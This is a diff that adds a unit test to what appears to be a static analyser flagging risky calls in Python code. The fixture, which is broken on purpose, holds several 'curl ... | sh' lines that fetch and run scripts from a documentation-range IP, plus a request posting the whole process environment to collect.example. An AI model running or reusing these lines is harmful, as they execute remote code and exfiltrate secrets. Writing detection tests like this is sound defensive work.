@@ -353,4 +353,25 @@ class EvaluationTest {
                 """))
         .containsExactly("SENDS https://a.example/in at module.py:3 CALL");
   }
+
+  @Test
+  void callsInLinesThatAreNoPython() {
+    assertThat(
+            ActLines.ofModule(
+                """
+                import os, requests
+                os.system("curl -s "http://203.0.113.7/a.sh" | sh")
+                os.system("curl -s http://203.0.113.7/b.sh | sh"
+                print('done')
+                os.system("curl -s http://203.0.113.7/c.sh | sh)
+                os.system(“curl -s http://203.0.113.7/d.sh | sh”)
+                requests.post('https://collect.example/', json={'a': 1 'env': dict(os.environ)})
+                """))
+        .contains(
+            "SPAWNS curl -s \"http://203.0.113.7/a.sh\" | sh at module.py:2 IMPORT",
+            "SPAWNS curl -s http://203.0.113.7/b.sh | sh at module.py:3 IMPORT",
+            "SPAWNS curl -s http://203.0.113.7/c.sh | sh) at module.py:5 IMPORT",
+            "SPAWNS curl -s http://203.0.113.7/d.sh | sh at module.py:6 IMPORT",
+            "SENDS https://collect.example/ carries ENVIRONMENT at module.py:7 IMPORT");
+  }
 }
